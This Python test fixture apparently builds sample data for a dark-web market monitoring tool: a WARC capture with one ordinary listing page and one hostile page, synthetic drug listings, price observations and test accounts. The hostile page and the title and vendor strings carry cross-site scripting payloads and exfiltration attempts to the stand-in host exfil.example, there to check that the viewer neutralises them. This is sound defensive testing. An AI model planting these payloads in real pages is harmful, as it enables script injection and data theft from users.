"""A small data folder for the web tests, written by hand: a capture file with real WARC records
(one ordinary page, one hostile page), listings pointing at them with observations over three
days, vendor history, a watchlist, and three accounts (viewer, analyst, admin)."""
from __future__ import annotations

import base64
from dataclasses import dataclass
from pathlib import Path

from crawlers.evidence import Sha256WARCWriter, read_pages, write_page
from crawlers.items import CapturedPage
from index.aggregations import observation_from
from index.embedded import EmbeddedIndex
from index.history import History
from onionwatch.accounts import Accounts
from onionwatch.config import Config
from onionwatch.web.app import accounts_db

PASSWORD = "long enough password"
CANARY_PATH = "/canary-was-reached"

# A 1x1 PNG: the only kind of image a captured page may keep (inline data).
PIXEL = "data:image/png;base64," + base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")).decode()


def hostile_page(canary: str) -> str:
    """Everything a hostile market page might try: scripts, handlers, javascript: links, CSS and
    meta-refresh exfiltration to an outside host, and a canary on 127.0.0.1 any script would call."""
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=http://exfil.example/refresh">
<style>body {{ background: url(http://exfil.example/css-bg); }}</style>
<link rel="stylesheet" href="http://exfil.example/sheet.css">
<script>window.pwned = 1; fetch("{canary}?script");</script>
<base href="http://exfil.example/">
</head><body onload="fetch('{canary}?onload')">
<h1 id="hostile-title">Hostile shop</h1>
<p style="background-image:url(http://exfil.example/inline-style)">Mephedrone 2g, Almaty</p>
<img src="x" onerror="window.pwned = 2; fetch('{canary}?onerror')">
<img src="http://exfil.example/remote.png">
<img src="{PIXEL}" alt="kept pixel">
<a id="js-link" href="javascript:fetch('{canary}?link')">click</a>
<a href="http://exfil.example/out">outside link</a>
<iframe src="http://exfil.example/frame"></iframe>
<svg><script>window.pwned = 3</script></svg>
<form action="http://exfil.example/post"><input name="x"></form>
</body></html>"""


HOSTILE_TITLE = '<script>window.pwned=4</script><img src=x onerror="window.pwned=5">Meph "hostile"'
HOSTILE_VENDOR = '<b onmouseover="window.pwned=6">EvilVendor</b>'


@dataclass
class WebData:
    config: Config
    ordinary_id: str
    hostile_id: str
    ids: list[str]
    warc: Path


def _listing(i: int, **fields) -> dict:
    base = {
        "listing_id": f"{i:032x}", "market": "testmarket", "title": f"Cocaine flake {i}g", "vendor": "NordVendor",
        "price": 50.0 + i, "currency": "USD", "price_usd": 50.0 + i, "quantity": 1.0, "unit": "g",
        "usd_per_base_unit": 50.0 + i, "drug": "cocaine", "drug_class": "stimulant", "ships_from": "NL",
        "ships_to": ["EU"], "city": None, "district": None, "dead_drop": None, "crypto_addresses": [],
        "pgp_fingerprints": [], "placeholder_price": False, "page_type": "listing",
        "captured_at": "2026-11-03T10:00:00Z",
    }
    base.update(fields)
    return base


def build(data_dir: Path, canary: str = "http://127.0.0.1:9/canary") -> WebData:
    config = Config(data_dir=data_dir, markets=())
    warc = config.captures_dir / "testmarket" / "2026-11-03" / "run1.warc"  # uncompressed, so a test can alter bytes in place
    warc.parent.mkdir(parents=True, exist_ok=True)
    with open(warc, "wb") as handle:
        writer = Sha256WARCWriter(handle, gzip=False)
        write_page(writer, CapturedPage(url="http://testmarket.onion/item/1", status=200,
                                        body=b"<html><body><h1 id='ordinary'>Cocaine flake 1g</h1>"
                                             b"<p>50 USD</p></body></html>",
                                        headers=[("Content-Type", "text/html; charset=utf-8")],
                                        captured_at="2026-11-03T10:00:00Z", market="testmarket"))
        write_page(writer, CapturedPage(url="http://testmarket.onion/item/666", status=200,
                                        body=hostile_page(canary).encode(),
                                        headers=[("Content-Type", "text/html; charset=utf-8")],
                                        captured_at="2026-11-03T10:00:00Z", market="testmarket"))
    pages = list(read_pages(warc))
    capture = [{"warc_file": str(p.warc_file), "offset": p.offset, "digest": p.digest} for p in pages]

    listings = [_listing(i, capture=capture[0]) for i in range(1, 13)]
    hostile = _listing(666, title=HOSTILE_TITLE, vendor=HOSTILE_VENDOR, drug="mephedrone", city="Алматы",
                       ships_from="KZ", currency="KZT", price=21000.0, price_usd=41.5, usd_per_base_unit=20.75,
                       quantity=2.0, capture=capture[1])
    listings.append(hostile)
    index = EmbeddedIndex(config.index_dir)
    index.upsert(listings)
    observations = []
    for day, factor in (("2026-11-01", 1.2), ("2026-11-02", 1.1), ("2026-11-03", 1.0)):
        for listing in (listings[0], hostile):
            seen = {**listing, "captured_at": f"{day}T10:00:00Z",
                    "price_usd": round(listing["price_usd"] * factor, 2),
                    "usd_per_base_unit": round(listing["usd_per_base_unit"] * factor, 2)}
            observations.append(observation_from(seen))
    index.add_observations(observations)

    history = History(config.history_db)
    history.record_run("testmarket", "2026-11-03T10:00:00Z", listings, None,
                       [{"name": "NordVendor", "pgp_fingerprints": ["A" * 40], "crypto_addresses": []}])
    history.close()

    accounts = Accounts(accounts_db(config))
    for name, role in (("viewer1", "viewer"), ("analyst1", "analyst"), ("admin1", "admin")):
        accounts.add_user(name, PASSWORD, role)
    accounts.close()
    return WebData(config, listings[0]["listing_id"], hostile["listing_id"],
                   [listing["listing_id"] for listing in listings], warc)
